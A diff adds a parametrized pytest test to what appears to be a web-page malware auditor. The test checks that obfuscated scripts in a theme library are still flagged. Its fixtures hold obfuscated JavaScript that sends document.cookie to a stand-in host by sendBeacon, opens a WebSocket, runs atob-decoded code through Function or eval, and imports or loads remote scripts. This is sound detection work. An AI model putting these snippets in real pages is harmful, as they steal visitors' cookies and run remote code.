@@ -1299,3 +1299,49 @@ def test_build_namespaces_scale_linearly(audit_html: AuditHtml) -> None:
         return time.perf_counter() - start
 
     assert_linear(seconds, 500, "build namespaces")
+
+
+def _at(i: int) -> str:
+    return f"_0x4f5a('0x{i:x}')"
+
+
+_N = len(THEME_WORDS)
+
+
+@pytest.mark.parametrize(("words", "library"), [
+    # a beacon to an address put together from pieces, with the visitor's cookies
+    ([*THEME_WORDS, "sendBeacon", "navigator", "https:", "beacon.quay-kit.example/c"],
+     THEME_LIBRARY + f"w[{_at(_N + 1)}][{_at(_N)}]({_at(_N + 2)}+'/'+'/'+{_at(_N + 3)},"
+     "document.cookie);"),
+    # a socket whose messages the code keeps
+    ([*THEME_WORDS, "WebSocket", "wss:", "ws.quay-kit.example"],
+     THEME_LIBRARY + f"var k=new w[{_at(_N)}]({_at(_N + 1)}+'/'+'/'+{_at(_N + 2)});"
+     f"k.onmessage=function(e){{w.q=e.data}};"),
+    # a second layer run through Function, or through eval of a name set before
+    ([*THEME_WORDS, "Function", "atob", "YWxlcnQoMSk="],
+     THEME_LIBRARY + f"w[{_at(_N)}](w[{_at(_N + 1)}]({_at(_N + 2)}))();"),
+    ([*THEME_WORDS, "eval", "atob", "YWxlcnQoMSk="],
+     THEME_LIBRARY + f"var q=w[{_at(_N + 1)}]({_at(_N + 2)});w[{_at(_N)}](q);"),
+    # a module imported from an address of pieces
+    ([*THEME_WORDS, "https:", "quay-kit.example/m.js"],
+     THEME_LIBRARY + f"import({_at(_N)}+'/'+'/'+{_at(_N + 1)});"),
+    # the location written through an alias
+    ([*THEME_WORDS, "location", "https:", "quay-kit.example/land"],
+     THEME_LIBRARY + f"var L=w[{_at(_N)}];L.href={_at(_N + 1)}+'/'+'/'+{_at(_N + 2)};"),
+    # the theme's own script loader handed another site's address of pieces
+    ([*THEME_WORDS, "https:", "quay-kit.example/x.js"],
+     THEME_LIBRARY.replace("(o[_0x4f5a('0x2')]||[])", f"[{_at(_N)}+'/'+'/'+{_at(_N + 1)}]")),
+], ids=["beacon", "websocket", "Function of atob", "eval of a name", "import()",
+        "location alias", "script address of pieces"])
+def test_a_libraries_namespace_vouches_for_no_code_that_reaches_out(
+        audit_html: AuditHtml, words: list[str], library: str) -> None:
+    """A plugin's folder is where most WordPress malware lives (fake plugins), so the build's
+    namespace vouches only for code that reaches nothing: a beacon, a socket, a second
+    layer run by `Function` or `eval`, `import()`, a location alias or an address built of
+    pieces keep the finding the same code has without the build."""
+    url = URL.replace("news.example", "harbour.example")
+    bare = audit_html(_theme_library_page(head="", words=words, library=library), url=url)
+    built = audit_html(_theme_library_page(words=words, library=library), url=url)
+    expected = [f.severity for f in bare.findings if f.kind == "obfuscated-script"]
+    assert expected, bare.findings
+    assert [f.severity for f in built.findings if f.kind == "obfuscated-script"] == expected
